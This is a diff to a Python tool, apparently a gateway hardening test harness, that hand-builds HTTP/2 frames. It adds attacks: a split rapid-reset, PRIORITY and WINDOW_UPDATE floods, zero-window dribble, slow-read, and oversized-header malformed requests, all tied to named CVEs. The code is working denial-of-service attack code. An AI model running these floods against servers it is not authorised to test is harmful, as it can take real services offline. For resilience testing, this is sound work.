@@ -8,6 +8,7 @@ prints one JSON line with what it saw:
   statuses        {stream id: :status} of the final response heads received
   dataBytes       DATA payload bytes received
   closed          the gateway closed the connection (EOF or reset) before the script finished
+  reset           reading ended with a TCP reset instead of a clean EOF
   sendFailed      a write failed because the gateway had closed (or reset) the connection
   sendBlocked     the gateway stopped reading (our writes blocked) at some point
   framesSent      frames written; bytesReceived: bytes the gateway sent; elapsed: seconds
@@ -15,15 +16,23 @@ Every frame and every HPACK block sent is built by hand here (no HTTP/2 library)
 a library would refuse to; only the gateway's response header blocks are decoded with the `hpack` package.
 
 Attacks:
-  rapid-reset        --count N: HEADERS + RST_STREAM(CANCEL) pairs (CVE-2023-44487)
+  rapid-reset        --count N: HEADERS + RST_STREAM(CANCEL) pairs (CVE-2023-44487); --split: each RST_STREAM
+                     written 2 ms after its HEADERS
   continuation       --count N: HEADERS without END_HEADERS, then endless CONTINUATION frames (CVE-2024-27316)
   hpack-bomb         --count N: a 4000-byte header put in the dynamic table, then one block that references
                      it N times (CVE-2016-6581)
   settings-flood     --count N: SETTINGS frames (CVE-2019-9515)
   ping-flood         --count N: PING frames (CVE-2019-9512); --no-read: never read while sending
   empty-data         --count N: DATA frames of length 0 without END_STREAM on an open stream (CVE-2019-9518)
+  priority-flood     --count N: PRIORITY frames naming N idle streams, then a GET above them (CVE-2019-9513);
+                     its status is reported as followStatus
+  window-update-flood --count N: connection WINDOW_UPDATE(1) frames, then a GET (followStatus)
   zero-window        --count N streams: SETTINGS_INITIAL_WINDOW_SIZE 0, GET --path on N streams, never
-                     WINDOW_UPDATE; watches for --hold seconds (CVE-2019-9517)
+                     WINDOW_UPDATE (--dribble B: B bytes per stream every 200 ms); watches for --hold seconds
+                     (CVE-2019-9517, CVE-2019-9511)
+  slow-read          all windows open, GET --path, then the socket is not read for --hold seconds (prints
+                     "local PORT" first, so the caller can watch the connection); --trickle B: B bytes are
+                     read every 200 ms instead
   many-streams       --count N: N requests without END_STREAM before reading anything (over max concurrent);
                      --ack-first: after acknowledging the server's SETTINGS
   malformed          --case NAME[,NAME...]: per case, on a new connection, one malformed request (see MALFORMED)
@@ -102,7 +111,8 @@ class Connection:
         self.sock = raw
         self.inbound = bytearray()
         self.result = {"goaway": None, "resets": {}, "statuses": {}, "dataBytes": 0, "closed": False,
-                       "sendBlocked": False, "sendFailed": False, "framesSent": 0, "bytesReceived": 0, "settingsAcked": 0,
+                       "reset": False, "sendBlocked": False, "sendFailed": False, "framesSent": 0,
+                       "bytesReceived": 0, "settingsAcked": 0,
                        "pingAcks": 0}
         self.auto_ack = True
         self.server_settings = False
@@ -145,6 +155,7 @@ class Connection:
                 return
             except (ConnectionResetError, OSError):
                 self.result["closed"] = True
+                self.result["reset"] = True
                 return
             if not chunk:
                 self.result["closed"] = True
@@ -258,6 +269,17 @@ def headers_frame(stream, fields, end_stream=True):
     return frame(HEADERS, flags, stream, block(fields))
 
 
+def header_frames(stream, fragment, end_stream=True, limit=16384):
+    """A header block as HEADERS plus as many CONTINUATION frames as the frame size limit needs."""
+    chunks = [fragment[i:i + limit] for i in range(0, len(fragment), limit)] or [b""]
+    out = bytearray()
+    for index, chunk in enumerate(chunks):
+        kind = HEADERS if index == 0 else CONTINUATION
+        flags = (END_STREAM if index == 0 and end_stream else 0) | (END_HEADERS if index == len(chunks) - 1 else 0)
+        out += frame(kind, flags, stream, chunk)
+    return bytes(out)
+
+
 # MARK: attacks
 
 def rapid_reset(c, args):
@@ -266,8 +288,14 @@ def rapid_reset(c, args):
     for i in range(args.count):
         stream = 1 + 2 * i
         batch += headers_frame(stream, request_fields(args.authority, args.path))
+        if args.split:
+            # The HEADERS goes out alone and the RST_STREAM a moment later, so the gateway reads them apart
+            # and has started the request when the reset comes (the costlier form of the attack).
+            c.send(bytes(batch), frames=0)
+            batch.clear()
+            c.pump(0.002)
         batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 0x8))
-        if len(batch) > 16384:
+        if len(batch) > 16384 or args.split:
             c.send(bytes(batch), frames=0)
             batch.clear()
         if c.ended():
@@ -319,6 +347,34 @@ def hpack_bomb(c, args):
     c.finish("hpack-bomb", {"referencesSent": args.count})
 
 
+def frame_flood(c, args, kind):
+    """PRIORITY frames for (idle) streams, or WINDOW_UPDATE frames on the connection, as fast as possible
+    (CVE-2019-9513 and the WINDOW_UPDATE storm of HARDENING §B3.7)."""
+    c.start()
+    update = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
+    sent = 0
+    for round_ in range(max(1, args.count // 256)):
+        if kind == PRIORITY:
+            # Each PRIORITY names a different idle stream, as a priority tree of idle streams would grow.
+            batch = b"".join(frame(PRIORITY, 0, 1 + 2 * (256 * round_ + i), struct.pack(">IB", 0, 15))
+                             for i in range(256))
+        else:
+            batch = update * 256
+        if not c.send(batch, frames=256):
+            break
+        sent += 256
+        c.read_available()
+        if c.ended():
+            break
+    # Then a request on the same connection, on a stream above every one named: answered if the flood passed.
+    follow = 1 + 2 * (sent + 1)
+    if not c.ended():
+        c.send(headers_frame(follow, request_fields(args.authority, args.path)))
+        c.pump(3, until=lambda: str(follow) in c.result["statuses"] or c.ended())
+    c.finish("priority-flood" if kind == PRIORITY else "window-update-flood",
+             {"floodFramesSent": sent, "followStatus": c.result["statuses"].get(str(follow))})
+
+
 def control_flood(c, args, kind):
     c.start()
     if kind == SETTINGS:
@@ -360,9 +416,41 @@ def zero_window(c, args):
     for i in range(args.count):
         requests += headers_frame(1 + 2 * i, request_fields(args.authority, args.path))
     c.send(bytes(requests), frames=args.count)
-    # Never send WINDOW_UPDATE: watch until every stream was reset, the connection closed, or --hold passed.
-    c.pump(args.hold, until=lambda: len(c.result["resets"]) >= args.count or c.result["goaway"] is not None)
+    # Never send WINDOW_UPDATE (or, with --dribble N, N bytes per stream every 200 ms): watch until every stream
+    # was reset, the connection closed, or --hold passed.
+    done = lambda: len(c.result["resets"]) >= args.count or c.result["goaway"] is not None
+    deadline = time.monotonic() + args.hold
+    while time.monotonic() < deadline and not done() and not c.result["closed"]:
+        if args.dribble:
+            updates = b"".join(frame(WINDOW_UPDATE, 0, 1 + 2 * i, struct.pack(">I", args.dribble))
+                               for i in range(args.count))
+            c.send(updates, frames=args.count)
+        c.pump(min(0.2, max(0.0, deadline - time.monotonic())), until=done)
     c.finish("zero-window", {"streams": args.count})
+
+
+def slow_read(c, args):
+    """Opens every HTTP/2 window, asks for a large body and then stops reading the socket for --hold seconds
+    (the TCP receive window closes: HARDENING §B4.3), then reads what is left."""
+    c.start(struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0x7FFFFFFF))
+    c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF - 65535))
+           + headers_frame(1, request_fields(args.authority, args.path)))
+    # The caller watches the gateway's side of this connection meanwhile.
+    print("local", c.sock.getsockname()[1], flush=True)
+    if args.trickle:
+        # A slow but live reader: --trickle bytes every 200 ms (raw bytes, not parsed: counted in bytesReceived).
+        deadline = time.monotonic() + args.hold
+        while time.monotonic() < deadline:
+            time.sleep(0.2)
+            try:
+                c.result["bytesReceived"] += len(c.sock.recv(args.trickle))
+            except (BlockingIOError, ssl.SSLWantReadError):
+                pass
+        c.finish("slow-read", {"trickled": True})
+        return
+    time.sleep(args.hold)  # the attack itself: a client that does not read
+    c.pump(10, until=lambda: c.result["closed"])
+    c.finish("slow-read")
 
 
 def many_streams(c, args):
@@ -410,6 +498,13 @@ def malformed_case(name, authority, path):
         "cl-zero-with-data": (post + [("content-length", "0")], [b"G" * 40]),
         "cl-short": (post + [("content-length", "10")], [b"G" * 40]),
         "cl-long": (post + [("content-length", "100")], [b"G" * 40]),
+        "too-many-headers": (base + [("x-h-%d" % i, "v") for i in range(120)], []),
+        "too-many-cookies": (base + [("cookie", "c%d=v" % i) for i in range(120)], []),
+        # Over the 60 KiB header list but under nghttp2's 64 KiB per field: a stream error.
+        "huge-header": (base + [("x-huge", "h" * (62 * 1024))], []),
+        "huge-path": ([f if f[0] != ":path" else (":path", "/" + "p" * (62 * 1024)) for f in base], []),
+        # Over 64 KiB in one field: nghttp2's HPACK decoder gives up, a connection error (COMPRESSION_ERROR).
+        "giant-header": (base + [("x-giant", "g" * (70 * 1024))], []),
     }
     return cases[name]
 
@@ -419,6 +514,7 @@ MALFORMED = [
     "missing-method", "missing-path", "missing-scheme", "duplicate-path", "duplicate-method",
     "pseudo-after-regular", "unknown-pseudo", "relative-path", "authority-host-mismatch", "crlf-in-value",
     "nul-in-value", "leading-space", "empty-name", "cl-zero-with-data", "cl-short", "cl-long",
+    "too-many-headers", "too-many-cookies", "huge-header", "huge-path", "giant-header",
 ]
 
 
@@ -427,7 +523,7 @@ def malformed(c, args):
         raise SystemExit("unknown case %r; known: %s" % (args.case, ", ".join(MALFORMED)))
     c.start()
     fields, bodies = malformed_case(args.case, args.authority, args.path)
-    payload = frame(HEADERS, END_HEADERS | (0 if bodies else END_STREAM), 1, block(fields))
+    payload = header_frames(1, block(fields), end_stream=not bodies)
     if bodies and args.split:
         # The head alone first, so the gateway has started the request before the DATA breaks it.
         c.send(payload)
@@ -459,8 +555,11 @@ ATTACKS = {
     "settings-flood": lambda c, a: control_flood(c, a, SETTINGS),
     "ping-flood": lambda c, a: control_flood(c, a, PING),
     "empty-data": empty_data,
+    "priority-flood": lambda c, a: frame_flood(c, a, PRIORITY),
+    "window-update-flood": lambda c, a: frame_flood(c, a, WINDOW_UPDATE),
     "zero-window": zero_window,
     "many-streams": many_streams,
+    "slow-read": slow_read,
     "malformed": malformed,
     "valid": valid,
 }
@@ -476,10 +575,13 @@ def main():
     parser.add_argument("--count", type=int, default=1000)
     parser.add_argument("--case", help="malformed: one of MALFORMED, or several separated by commas")
     parser.add_argument("--follow-path", help="malformed: the path of the valid request that follows")
-    parser.add_argument("--split", action="store_true", help="malformed: HEADERS and DATA in separate writes")
+    parser.add_argument("--split", action="store_true",
+                        help="malformed: HEADERS and DATA in separate writes; rapid-reset: HEADERS and RST apart")
     parser.add_argument("--ack-first", action="store_true", help="many-streams: acknowledge SETTINGS first")
     parser.add_argument("--no-read", action="store_true")
     parser.add_argument("--hold", type=float, default=3.0)
+    parser.add_argument("--trickle", type=int, default=0, help="slow-read: read this many bytes every 200 ms")
+    parser.add_argument("--dribble", type=int, default=0, help="zero-window: window bytes per stream every 200 ms")
     args = parser.parse_args()
     if args.attack == "malformed" and not args.case:
         parser.error("malformed needs --case")
